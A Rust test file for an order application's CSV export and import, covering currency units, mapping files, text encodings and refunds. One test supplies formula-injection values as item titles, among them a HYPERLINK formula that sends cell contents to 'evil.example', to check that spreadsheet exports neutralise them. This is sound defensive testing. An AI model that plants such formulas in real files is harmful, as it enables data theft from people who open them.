//! CSV files of our own, read back: amounts keep their size in every currency, and what a spreadsheet would have
//! changed comes back as it was.

use super::super::summed::Summed;
use super::{Args, Center, args, export, failure, import, written};
use docket_app::Principal;
use docket_domain::Json;
use docket_domain::story::Language;
use docket_wire::operation;
use std::collections::BTreeMap;

/// Orders in currencies of 0, 2 and 3 places, with all that is repeated in the rows of a shop order.
fn orders_of_three_currencies() -> String {
    let order = |currency: &str| {
        format!(
            r#"{{"external_id":"in {currency}","currency":"{currency}","created_at":"2026-11-01T00:00:00Z","channel":"web","buyer_id":"b-1","platform_discount":30,"shops":[{{"shop_id":"11","freight":600,"shop_discount":100,"items":[{{"sku_id":"a","quantity":"2","list_price":1000,"item_discount":5}},{{"sku_id":"b","quantity":"1.25","list_price":1999}}]}},{{"shop_id":"12","freight":0,"items":[{{"sku_id":"a","quantity":"1","list_price":7}}]}}]}}"#
        )
    };
    ["JPY", "CNY", "KWD"].map(order).join("\n")
}

async fn of(lines: &str) -> (Center, tempfile::TempDir) {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let center = Center::open().await;
    let report = center.import(&args(vec![written(&folder, "orders.jsonl", lines)])).await;
    assert_eq!(report.orders.refused, 0, "{:?}", report.refused_rows);
    (center, folder)
}

async fn csv(center: &Center, spreadsheet: bool) -> String {
    let format = Some(export::Format::Csv);
    let args = export::Args { format, spreadsheet, ..export::Args::default() };
    let mut out = Vec::new();
    export::write(&args, &center.app, &mut out).await.expect("it can be read");
    String::from_utf8(out).expect("a CSV of ours is UTF-8")
}

/// The rows of a CSV of ours by order, shop and SKU, without the numbers of ours and what follows from their time.
fn rows(csv: &str) -> BTreeMap<String, BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let rows = reader.deserialize().map(|row| row.expect("as wide as the header"));
    let named = |mut row: BTreeMap<String, String>| {
        for anew in ["order_id", "shop_order_id", "item_order_id", "updated_at"] {
            row.remove(anew).expect("a column of ours");
        }
        let name = [&row["external_id"], &row["shop_id"], &row["sku_id"], &row["title"]];
        (name.map(String::as_str).join("/"), row)
    };
    rows.map(named).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn amounts_of_a_csv_of_ours_keep_their_size_in_every_currency() {
    let (one, folder) = of(&orders_of_three_currencies()).await;
    let wanted = rows(&csv(&one, false).await);
    assert_eq!(wanted["in CNY/11/a/"]["list_price"], "1000");
    for spreadsheet in [false, true] {
        let file = written(&folder, "out.csv", &csv(&one, spreadsheet).await);
        let other = Center::open().await;
        let report = other.import(&args(vec![file])).await;
        assert_eq!((report.rows.taken, report.orders.taken), (9, 3), "{:?}", report.refused_rows);
        assert_eq!(rows(&csv(&other, false).await), wanted, "spreadsheet: {spreadsheet}");
    }
    let sheet = csv(&one, true).await;
    let shown = rows(&sheet);
    let prices =
        ["JPY", "CNY", "KWD"].map(|c| shown[&format!("in {c}/'11/a/")]["list_price"].clone());
    assert_eq!(prices, ["1000", "10.00", "1.000"], "as people read them");
}

/// A mapping of somebody who knows nothing of units.
const PLAIN: &str = r#"
    [orders]
    files = ["out.csv"]
    key = "order_id"
    [orders.fields]
    external_id = "order_id"
    currency = "currency"
    channel = { value = "copy" }
    [items.fields]
    shop_id = "shop_id"
    sku_id = "sku_id"
    quantity = "quantity"
    list_price = "list_price"
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_mapping_that_says_nothing_of_units_reads_ours_right_and_older_ones_not_at_all() {
    let (one, folder) = of(&orders_of_three_currencies()).await;
    let map = Some(written(&folder, "map.toml", PLAIN));
    let minor = csv(&one, false).await;
    for text in [&minor, &csv(&one, true).await] {
        let file = written(&folder, "out.csv", text);
        let other = Center::open().await;
        other.import(&Args { map: map.clone(), ..args(vec![file]) }).await;
        let sold = other.orders().await.into_values().map(|order| {
            (order["currency"].as_str().unwrap().to_owned(), order["payable"].as_i64().unwrap())
        });
        let wanted = ["CNY", "JPY", "KWD"].map(|currency| (currency.to_owned(), 4506));
        let mut sold: Vec<_> = sold.collect();
        sold.sort();
        assert_eq!(sold, wanted);
    }
    // As the release before wrote it: nobody can tell from it what 1000 is.
    let older: String = minor
        .lines()
        .map(|line| line.rsplit_once(',').expect("a last column").0.to_owned() + "\n")
        .collect();
    let file = written(&folder, "out.csv", &older);
    for map in [map.clone(), None] {
        let refused = failure(&Args { map, ..args(vec![file.clone()]) }).await;
        assert!(
            refused.message.contains("does not say how its amounts are written"),
            "{refused:?}"
        );
        assert_eq!(refused.code, 2);
    }
    let told = written(&folder, "map.toml", &format!("money = \"minor\"\n{PLAIN}"));
    let other = Center::open().await;
    other.import(&Args { map: Some(told.clone()), ..args(vec![file]) }).await;
    assert!(other.orders().await.values().all(|order| order["payable"] == 4506));
    // A file that says one thing and a mapping that says the other: neither is believed.
    let sheet = written(&folder, "out.csv", &csv(&one, true).await);
    let other = Center::open().await;
    let report = other.import(&Args { map: Some(told), ..args(vec![sheet]) }).await;
    assert_eq!((report.orders.taken, report.refused_by_code["money_differs"]), (0, 9));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_mapping_says_of_a_file_or_of_a_column_that_it_has_minor_units() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let rows = "id,cur,cents,freight\n1,CNY,1000,2.50\n2,JPY,1000,250\n3,KWD,1000,2.500\n";
    let rows = written(&folder, "out.csv", rows);
    let map = |top: &str, price: &str, freight: &str| {
        format!(
            r#"{top}
            [orders]
            files = ["out.csv"]
            key = "id"
            [orders.fields]
            external_id = "id"
            currency = "cur"
            freight = {freight}
            [items.fields]
            shop_id = {{ value = "1" }}
            sku_id = {{ value = "a" }}
            quantity = {{ value = "1" }}
            list_price = {price}"#
        )
    };
    let column = r#"{ column = "cents", money = "minor" }"#;
    let decimal = r#"{ column = "freight", money = "decimal" }"#;
    for map in [map("", column, "\"freight\""), map("money = \"minor\"", "\"cents\"", decimal)] {
        let center = Center::open().await;
        let map = Some(written(&folder, "map.toml", &map));
        center.import(&Args { map, ..args(vec![rows.clone()]) }).await;
        let orders = center.orders().await;
        let told = ["1", "2", "3"].map(|id| (&orders[id]["price"], &orders[id]["freight"]));
        let told = told.map(|(price, freight)| (price.as_i64(), freight.as_i64()));
        assert_eq!(
            told,
            [(Some(1000), Some(250)), (Some(1000), Some(250)), (Some(1000), Some(2500))]
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_spreadsheet_runs_nothing_of_ours_and_gives_all_of_it_back() {
    let titles = [
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"龙井茶\")",
        "=1+1",
        "+1",
        "-",
        "@SUM(A1)",
        "\tx",
        "\r=1",
        "'tis",
        "''",
        "007",
        "1E5",
        "MAR1",
        "a,\"b\"\nc",
        " blanks ",
        "龙井茶 250 g",
    ];
    let item = |(at, title): (usize, &&str)| {
        let sku = ["00123", "=x", "1E10", "'q", "s-1"][at % 5];
        serde_json::json!({"sku_id": format!("{sku}{at}"), "title": title, "quantity": "1", "list_price": 1})
    };
    let items: Vec<Json> = titles.iter().enumerate().map(item).collect();
    let order = serde_json::json!({
        "external_id": "394867712345678901", "currency": "CNY", "buyer_id": "=1+1",
        "created_at": "2026-11-01T00:00:00Z", "shops": [{"shop_id": "-11", "items": items}],
    });
    let (one, folder) = of(&order.to_string()).await;
    let sheet = csv(&one, true).await;
    assert!(sheet.starts_with('\u{feff}'), "a spreadsheet sees by it that it is UTF-8");
    let mut reader = csv::Reader::from_reader(sheet.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().expect("a header").clone();
    for row in reader.records() {
        for (name, cell) in header.iter().zip(&row.expect("a row")) {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{name}: {cell:?}");
            let is_long = cell.len() > 15 && cell.bytes().all(|byte| byte.is_ascii_digit());
            assert!(!is_long, "{name}: {cell} would be rounded");
        }
    }
    let wanted = rows(&csv(&one, false).await);
    assert_eq!(wanted.len(), titles.len());
    // As it was written, and as a spreadsheet saves it: with CR LF.
    for text in [sheet.clone(), sheet.replace(",decimal\n", ",decimal\r\n")] {
        let other = Center::open().await;
        let report = other.import(&args(vec![written(&folder, "out.csv", &text)])).await;
        assert_eq!(report.rows.taken, titles.len() as u64, "{:?}", report.refused_rows);
        assert_eq!(rows(&csv(&other, false).await), wanted);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_spreadsheet_is_csv_and_nothing_else() {
    let center = Center::open().await;
    let args = export::Args { spreadsheet: true, ..export::Args::default() };
    let mut out = Vec::new();
    export::write(&args, &center.app, &mut out).await.expect("CSV is what it means");
    assert!(out.starts_with("\u{feff}order_id,".as_bytes()));
    let lines = export::Args { format: Some(export::Format::Jsonl), ..args };
    assert!(export::write(&lines, &center.app, Vec::new()).await.is_err());
    let map = Args { map: None, ..args_of_nothing() };
    assert!(import(&map, &center.app).await.is_err());
}

/// A CSV that is not ours and has no mapping.
fn args_of_nothing() -> Args {
    args(vec![super::fixture("sheet/orders.csv")])
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_given_back_is_not_given_back_again_after_a_csv_of_ours() {
    let order = |id: &str, payments: &str| {
        format!(
            r#"{{"external_id":"{id}","currency":"CNY","created_at":"2026-11-01T00:00:00Z","status":"shipped","shipped_at":"2026-11-03T00:00:00Z","payments":[{payments}],"shops":[{{"shop_id":"11","freight":0,"items":[{{"sku_id":"a","quantity":"1","list_price":1000}}],"refunds":[{{"kind":"refund","by":"seller","status":"refunded","lines":[],"goodwill":200,"created_at":"2026-11-04T00:00:00Z","ended_at":"2026-11-05T00:00:00Z"}}]}}]}}"#
        )
    };
    let payment = |reference: &str, amount: i64| {
        format!(
            r#"{{"tender":"card","reference":"{reference}","amount":{amount},"paid_at":"2026-11-02T00:00:00Z"}}"#
        )
    };
    let lines = [
        order("one", &payment("p1", 1000)),
        order("two", &[payment("p2", 400), payment("p3", 600)].join(",")),
    ];
    let (one, folder) = of(&lines.join("\n")).await;
    for spreadsheet in [false, true] {
        let file = written(&folder, "out.csv", &csv(&one, spreadsheet).await);
        let other = Center::open().await;
        let report = other.import(&args(vec![file])).await;
        let orders = other.orders().await;
        let before = one.orders().await;
        for id in ["one", "two"] {
            let (now, before) = (&orders[id], &before[id]);
            for field in
                ["status", "payment_status", "paid_at", "payable", "paid", "refunded", "anomalies"]
            {
                assert_eq!(now[field], before[field], "{id}: {field}");
            }
            let refund = &now["shops"][0]["refunds"][0];
            assert_eq!((&refund["amount"], &refund["goodwill"]), (&200.into(), &200.into()));
            assert_eq!(refund["ended_at"], "2026-11-05T00:00:00.000Z");
        }
        // How it was paid is known where one payment is all of it.
        let how = |id: &str| {
            let payment = &orders[id]["payments"][0];
            [&payment["tender"], &payment["reference"]]
                .map(|text| text.as_str().unwrap().to_owned())
        };
        assert_eq!(how("one"), ["card", "p1"]);
        assert_eq!(how("two"), ["unknown", before["two"]["order_id"].as_str().unwrap()]);
        let counted: Vec<_> = report.summed.iter().map(|(what, count)| (*what, *count)).collect();
        assert_eq!(counted, [(Summed::Payments, 1), (Summed::Refunds, 2), (Summed::Parcels, 2)]);
        // What is left of it can be given back, and no more.
        let who = Principal::local();
        for id in ["one", "two"] {
            let node = orders[id]["order_id"].as_str().unwrap().parse().unwrap();
            let asked = r#"{"type":"refund_by_store","actor":{"kind":"store"},"freight":false,"goods_back":false,"reason":"x"}"#;
            let asked = operation::read(asked.as_bytes(), node, Language::En).unwrap();
            let tree = other.app.operate(&who, asked, None).await.unwrap().tree;
            let refund = tree.shops[0].refunds.last().unwrap();
            assert_eq!((refund.amount, refund.cut), (800, 200), "{id}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_csv_of_ours_from_before_says_what_went_back_of_its_whole_order() {
    let (one, folder) = of(&format!(
        "{}\n",
        r#"{"external_id":"x","currency":"CNY","created_at":"2026-11-01T00:00:00Z","payments":[{"tender":"card","reference":"p","amount":1100,"paid_at":"2026-11-02T00:00:00Z"}],"shops":[{"shop_id":"11","freight":100,"items":[{"order_id":"l","sku_id":"a","quantity":"2","list_price":500}],"refunds":[{"kind":"refund","by":"seller","status":"refunded","freight":40,"lines":[{"order_id":"l","quantity":"1"}]}]}]}"#
    ))
    .await;
    let text = csv(&one, false).await;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let new =
        ["tender", "payment_reference", "shop_refunded", "freight_refunded", "shop_refunded_at"];
    let header = reader.headers().unwrap().clone();
    let kept = |row: &csv::StringRecord| -> Vec<String> {
        let cells = header.iter().zip(row).filter(|(name, _)| !new.contains(name));
        cells.map(|(_, cell)| cell.to_owned()).collect()
    };
    let rows = std::iter::once(header.clone()).chain(reader.records().map(Result::unwrap));
    let older: Vec<String> = rows.map(|row| kept(&row).join(",")).collect();
    let file = written(&folder, "older.csv", &older.join("\n"));
    let other = Center::open().await;
    other.import(&args(vec![file])).await;
    let order = &other.orders().await["x"];
    assert_eq!((&order["paid"], &order["refunded"]), (&1100.into(), &540.into()));
    let refund = &order["shops"][0]["refunds"][0];
    assert_eq!(refund["lines"][0]["quantity"], "1");
    assert_eq!((&refund["lines"][0]["amount"], &refund["goodwill"]), (&500.into(), &40.into()));
    assert_eq!(order["payments"][0]["tender"], "unknown");
}

/// The cells of a CSV of ours, written anew with `delimiter` and each cell changed.
fn rewritten(csv: &str, delimiter: u8, change: impl Fn(&str, &str) -> String) -> String {
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().expect("a header").clone();
    let terminator = csv::Terminator::CRLF;
    let mut to = csv::WriterBuilder::new()
        .delimiter(delimiter)
        .terminator(terminator)
        .from_writer(Vec::new());
    to.write_record(&header).expect("space");
    for row in reader.records() {
        let row = row.expect("a row");
        to.write_record(header.iter().zip(&row).map(|(name, cell)| change(name, cell)))
            .expect("space");
    }
    String::from_utf8(to.into_inner().expect("space")).expect("UTF-8")
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_spreadsheet_makes_of_a_csv_of_ours_is_known_as_ours() {
    let (one, folder) = of(&orders_of_three_currencies().replace("\"b-1\"", "\"龙井\"")).await;
    let wanted = rows(&csv(&one, false).await);
    let sheet = csv(&one, true).await;
    // As where decimals have a comma, and zeros at their ends are gone.
    let german = |_: &str, cell: &str| match cell.split_once('.') {
        Some((whole, broken)) if cell.bytes().all(|b| b == b'.' || b.is_ascii_digit()) => {
            let broken = broken.trim_end_matches('0');
            if broken.is_empty() { whole.to_owned() } else { format!("{whole},{broken}") }
        }
        _ => cell.to_owned(),
    };
    let same = |_: &str, cell: &str| cell.to_owned();
    let wide = rewritten(&sheet, b'\t', same);
    let wide = wide.encode_utf16().flat_map(u16::to_le_bytes);
    let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain(wide).collect();
    let gbk = encoding_rs::GBK.encode(&rewritten(&sheet, b',', same)).0.into_owned();
    let one_line = written(&folder, "map.toml", "encoding = \"gbk\"\n");
    for (name, bytes, map) in [
        ("german.csv", rewritten(&sheet, b';', german).into_bytes(), None),
        ("Unicode text.txt", wide, None),
        ("gbk.csv", gbk.clone(), Some(one_line)),
    ] {
        let file = folder.path().join(name);
        std::fs::write(&file, bytes).expect("space");
        let other = Center::open().await;
        let report = other.import(&Args { map, ..args(vec![file]) }).await;
        assert_eq!(
            (report.rows.taken, report.orders.taken),
            (9, 3),
            "{name}: {:?}",
            report.refused_rows
        );
        assert_eq!(rows(&csv(&other, false).await), wanted, "{name}");
    }
    // Without a mapping each row that is not UTF-8 says what to write.
    let file = folder.path().join("gbk.csv");
    let report = Center::open().await.import(&args(vec![file])).await;
    assert_eq!(report.orders.taken, 0);
    let why = &report.refused_rows[0].message;
    assert!(why.contains("one line") && why.contains("encoding = \"GBK\""), "{why:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_mapping_of_settings_alone_is_laid_over_ours_for_files_of_ours() {
    let (one, folder) = of(&orders_of_three_currencies()).await;
    let wanted = rows(&csv(&one, false).await);
    let cut = |csv: &str| -> String {
        csv.lines()
            .map(|line| line.rsplit_once(',').expect("a last column").0.to_owned() + "\n")
            .collect()
    };
    for (spreadsheet, money) in [(false, "minor"), (true, "decimal")] {
        let file = written(&folder, "cut.csv", &cut(&csv(&one, spreadsheet).await));
        let refused = failure(&args(vec![file.clone()])).await;
        let next = refused.next.expect("what to do");
        assert!(next.contains("a mapping of that one line will do"), "{next:?}");
        let map = Some(written(&folder, "map.toml", &format!("money = \"{money}\"\n")));
        let other = Center::open().await;
        other.import(&Args { map: map.clone(), ..args(vec![file]) }).await;
        assert_eq!(rows(&csv(&other, false).await), wanted, "{money}");
        // Of other files it is no mapping.
        let theirs = written(&folder, "theirs.csv", "id,cur\n1,EUR\n");
        let refused = failure(&Args { map, ..args(vec![theirs]) }).await;
        assert!(refused.message.contains("`orders` is missing"), "{refused:?}");
    }
    // Sums are joined to nothing: they would count twice.
    let file = written(&folder, "out.csv", &csv(&one, false).await);
    let refused = failure(&Args { update: true, ..args(vec![file]) }).await;
    assert!(refused.message.contains("would count twice"), "{refused:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_wrong_with_an_amount_of_ours_is_told_where_it_is() {
    let (one, folder) = of(&orders_of_three_currencies()).await;
    let sheet = csv(&one, true).await;
    let told = async |change: &dyn Fn(&str, &str) -> String| {
        let file = written(&folder, "out.csv", &rewritten(&sheet, b',', change));
        let report = Center::open().await.import(&args(vec![file])).await;
        let row = report.refused_rows.first().expect("it is refused");
        (row.field.to_string(), row.code.to_string(), report.orders.taken)
    };
    let fen = |name: &str, cell: &str| if name == "money" { "fen" } else { cell }.to_owned();
    assert_eq!(told(&fen).await, ("money".to_owned(), "not_a_word".to_owned(), 0));
    // Yen in groups, as a spreadsheet shows them, are no yen with three places.
    let grouped = |name: &str, cell: &str| match (name, cell) {
        ("list_price", "1000") => "1.000".to_owned(),
        _ => cell.to_owned(),
    };
    assert_eq!(told(&grouped).await, ("list_price".to_owned(), "too_precise".to_owned(), 2));
}
